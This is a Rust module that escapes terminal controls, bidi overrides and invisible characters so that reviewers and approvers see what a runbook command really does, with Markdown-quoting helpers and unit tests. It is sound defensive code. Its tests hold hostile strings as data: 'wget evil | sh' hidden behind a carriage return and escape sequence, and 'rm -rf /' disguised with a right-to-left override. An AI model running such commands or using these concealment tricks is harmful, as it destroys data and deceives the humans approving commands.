//! What a person is shown of a value that came from a file (a runbook, environments.yaml, a
//! journal) or from elsewhere (a remote command's output): every character a terminal or a
//! viewer would act on instead of showing — ESC, CR, BEL, bidi overrides, zero-width
//! characters — is written visibly (`\e`, `\r`, `\x07`, `\u{202e}`), so what a reviewer or
//! an approver reads is what runs. Every human-facing renderer goes through here; JSON output
//! keeps the exact strings (JSON escapes them itself).

use std::borrow::Cow;

/// A character that a terminal or a text viewer does not show as itself: C0 controls (but tab
/// and newline, see [`visible`]), DEL, C1 controls, bidi embeddings, overrides, isolates and
/// marks, zero-width and other invisible format characters, invisible fillers, variation
/// selectors and tag characters (which can spell out hidden text).
pub fn is_hidden(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{8}'
        | '\u{b}'..='\u{1f}'
        | '\u{7f}'..='\u{9f}'
        | '\u{ad}'
        | '\u{34f}'
        | '\u{61c}'
        | '\u{115f}'..='\u{1160}'
        | '\u{17b4}'..='\u{17b5}'
        | '\u{180b}'..='\u{180f}'
        | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}'
        | '\u{3164}'
        | '\u{fe00}'..='\u{fe0f}'
        | '\u{feff}'
        | '\u{ffa0}'
        | '\u{fff9}'..='\u{fffb}'
        | '\u{1d173}'..='\u{1d17a}'
        | '\u{e0000}'..='\u{e0fff}')
}

/// True for the hidden characters that also have a legitimate use in prose (joiners in emoji
/// and in some scripts, variation selectors after an emoji): `check` warns about these and
/// refuses the others.
pub fn is_joiner(c: char) -> bool {
    matches!(c, '\u{200c}' | '\u{200d}' | '\u{fe00}'..='\u{fe0f}')
}

/// `s` with every hidden character written visibly; newlines and tabs are kept, for text shown
/// on several lines (a command, instructions, a step's output).
pub fn visible(s: &str) -> Cow<'_, str> {
    escape(s, false)
}

/// `s` on one line: hidden characters, newlines and tabs written visibly. For a value shown
/// inside a line of the tool's own (a title, a name, a table cell), where a newline would
/// forge a line the tool did not write.
pub fn visible_line(s: &str) -> Cow<'_, str> {
    escape(s, true)
}

/// The visible form of one character, e.g. `\e`, or the character itself.
fn escaped(c: char, one_line: bool, out: &mut String) {
    use std::fmt::Write as _;
    match c {
        '\n' if one_line => out.push_str("\\n"),
        '\t' if one_line => out.push_str("\\t"),
        '\r' => out.push_str("\\r"),
        '\u{1b}' => out.push_str("\\e"),
        '\0' => out.push_str("\\0"),
        c if c < '\u{80}' && is_hidden(c) => {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        }
        c if is_hidden(c) => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
        c => out.push(c),
    }
}

fn escape(s: &str, one_line: bool) -> Cow<'_, str> {
    let needs = |c: char| is_hidden(c) || (one_line && (c == '\n' || c == '\t'));
    if !s.chars().any(needs) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        escaped(c, one_line, &mut out);
    }
    Cow::Owned(out)
}

/// `text` with every hidden character replaced by as many `?` as it has bytes (a CR that ends
/// a line is kept): for a diagnostic's source snippet, whose spans are byte offsets into the
/// original text and must still point at the same places.
pub fn masked_same_length(text: &str) -> Cow<'_, str> {
    let hidden =
        |(i, c): (usize, char)| is_hidden(c) && !(c == '\r' && text[i + 1..].starts_with('\n'));
    if !text.char_indices().any(hidden) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    for (i, c) in text.char_indices() {
        if hidden((i, c)) {
            out.extend(std::iter::repeat_n('?', c.len_utf8()));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// How a hidden character is named in a diagnostic: `U+001B (ESC, shown as \e)`.
pub fn describe(c: char) -> String {
    let name = match c {
        '\u{1b}' => " ESC",
        '\r' => " carriage return",
        '\u{7}' => " BEL",
        '\u{8}' => " backspace",
        '\0' => " NUL",
        '\u{7f}' => " DEL",
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' => {
            " bidi control"
        }
        '\u{200b}'..='\u{200d}' | '\u{2060}' | '\u{feff}' => " zero-width",
        _ => "",
    };
    let mut shown = String::new();
    escaped(c, true, &mut shown);
    format!("U+{:04X}{name}, shown as {shown}", u32::from(c))
}

/// `s` as a Markdown code span that shows it literally: fenced by more backticks than it
/// holds in a row (padded with spaces when it starts or ends with one), `|` escaped for a
/// table cell, hidden characters visible. A code span interprets nothing else: no emphasis,
/// no HTML, no link, no mention.
pub fn md_code(s: &str) -> String {
    let s = visible_line(s).replace('|', "\\|");
    let longest = longest_run(&s, '`');
    let fence = "`".repeat(longest + 1);
    let pad = if s.starts_with('`') || s.ends_with('`') || s.is_empty() {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{s}{pad}{fence}")
}

/// A Markdown code-block fence (`` ``` `` or longer) that no line of `content` can close.
pub fn md_fence(content: &str) -> String {
    let longest = content
        .lines()
        .map(|l| {
            let t = l.trim_start();
            t.len() - t.trim_start_matches('`').len()
        })
        .max()
        .unwrap_or(0);
    "`".repeat(longest.max(2) + 1)
}

fn longest_run(s: &str, c: char) -> usize {
    let (mut best, mut cur) = (0, 0);
    for ch in s.chars() {
        if ch == c {
            cur += 1;
            best = best.max(cur);
        } else {
            cur = 0;
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn terminal_controls_are_shown_not_obeyed() {
        assert_eq!(
            visible("wget evil | sh\r\u{1b}[2Ksystemctl restart musehub\u{7}"),
            "wget evil | sh\\r\\e[2Ksystemctl restart musehub\\x07"
        );
        assert_eq!(visible("a\u{7f}b\u{9b}c\0"), "a\\x7fb\\u{9b}c\\0");
    }

    #[test]
    fn bidi_and_invisible_characters_are_shown() {
        assert_eq!(
            visible("rm -rf /\u{202e}txt.gol"),
            "rm -rf /\\u{202e}txt.gol"
        );
        for c in [
            '\u{202a}',
            '\u{202b}',
            '\u{202c}',
            '\u{202d}',
            '\u{2066}',
            '\u{2067}',
            '\u{2068}',
            '\u{2069}',
            '\u{200b}',
            '\u{200e}',
            '\u{feff}',
            '\u{2028}',
            '\u{e0041}',
            '\u{ad}',
        ] {
            let s = format!("a{c}b");
            let v = visible(&s);
            assert!(!v.contains(c), "{c:?} still in {v}");
            assert!(v.contains("\\u{"), "{v}");
        }
    }

    #[test]
    fn newlines_and_tabs_depend_on_the_place() {
        assert_eq!(visible("a\n\tb"), "a\n\tb");
        assert_eq!(visible_line("a\n\tb"), "a\\n\\tb");
        assert!(matches!(visible("plain text, ünïcödé ✓"), Cow::Borrowed(_)));
    }

    #[test]
    fn code_spans_and_fences_cannot_be_closed_by_their_content() {
        assert_eq!(md_code("ls | wc"), "`ls \\| wc`");
        assert_eq!(md_code("echo `date`"), "`` echo `date` ``");
        assert_eq!(md_code("a``b"), "```a``b```");
        assert_eq!(md_fence("echo\n```\nrm -rf /"), "````");
        assert_eq!(md_fence("plain"), "```");
    }

    #[test]
    fn snippets_keep_their_byte_offsets() {
        let t = "a\u{1b}b\u{202e}c\r\nd\re";
        let m = masked_same_length(t);
        assert_eq!(m, "a?b???c\r\nd?e");
        assert_eq!(m.len(), t.len());
    }

    #[test]
    fn diagnostics_name_the_character() {
        assert_eq!(describe('\u{1b}'), "U+001B ESC, shown as \\e");
        assert_eq!(
            describe('\u{202e}'),
            "U+202E bidi control, shown as \\u{202e}"
        );
    }
}
